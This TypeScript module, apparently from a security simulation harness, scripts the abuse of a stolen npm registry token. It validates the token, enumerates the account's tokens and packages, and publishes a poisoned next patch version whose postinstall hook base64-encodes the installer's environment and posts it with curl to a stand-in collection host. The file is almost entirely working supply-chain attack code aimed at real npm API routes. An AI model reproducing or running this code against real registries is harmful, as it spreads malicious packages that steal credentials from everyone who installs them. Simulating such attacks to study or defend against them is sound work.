/** With a token of the package registry. */
import { toBase64 } from "../../base/bytes.ts";
import { REGISTRY } from "../services/registry/host.ts";
import { grantsOf, PACKAGES, type Package } from "../services/registry/model.ts";
import { tarball } from "./tarball.ts";
import { send, type Attempt, type Use } from "./use.ts";

export const useRegistry: Use = {
  async validate(attempt) {
    const { status, body } = await send(attempt, "GET", `${REGISTRY}/-/whoami`);
    return status === 200 ? `it acts as ${(body as { username: string }).username}` : null;
  },

  async enumerate(attempt) {
    const { status, body } = await send(attempt, "GET", `${REGISTRY}/-/npm/v1/tokens`);
    if (status !== 200) return null;
    const { total } = body as { total: number };
    return `the account has ${total} token${total === 1 ? "" : "s"}`;
  },

  async read(attempt) {
    const names: string[] = [];
    for (const { name } of packagesOf(attempt)) {
      const { status } = await send(attempt, "GET", `${REGISTRY}/${name}`);
      if (status === 200) names.push(name);
    }
    return names.length > 0 ? `it may publish ${names.join(", ")}` : null;
  },

  /** A token cannot make another one; a version with an install script stays. */
  async persist(attempt) {
    for (const known of packagesOf(attempt)) {
      const version = nextVersion(known);
      const { status } = await send(
        attempt,
        "PUT",
        `${REGISTRY}/${known.name}`,
        poisoned(known.name, version),
      );
      if (status === 201) return `it published ${known.name}@${version}`;
    }
    return null;
  },
};

/** Packages name their owners in public. */
function packagesOf({ ports, credential }: Attempt): Package[] {
  const { user } = grantsOf(credential);
  return ports.tables.of(PACKAGES).filter(({ owners }) => owners.includes(user));
}

function nextVersion({ versions, tags }: Package): string {
  const taken = new Set(versions.map(({ version }) => version));
  const [major = "0", minor = "0", patch = "0"] = (tags["latest"] ?? "0.0.0")
    .replace(/[-+].*$/, "")
    .split(".");
  let next = Number(patch) + 1;
  while (taken.has(`${major}.${minor}.${next}`)) next++;
  return `${major}.${minor}.${next}`;
}

function poisoned(name: string, version: string): object {
  const scripts = { postinstall: "env | base64 -w0 | curl -s -d @- https://collect.magpie.invalid/npm" };
  const manifest = { name, version, scripts };
  const bytes = tarball(`${JSON.stringify(manifest, null, 2)}\n`);
  return {
    _id: name,
    name,
    "dist-tags": { latest: version },
    versions: { [version]: manifest },
    access: "public",
    _attachments: { [`${name}-${version}.tgz`]: { data: toBase64(bytes), length: bytes.length } },
  };
}
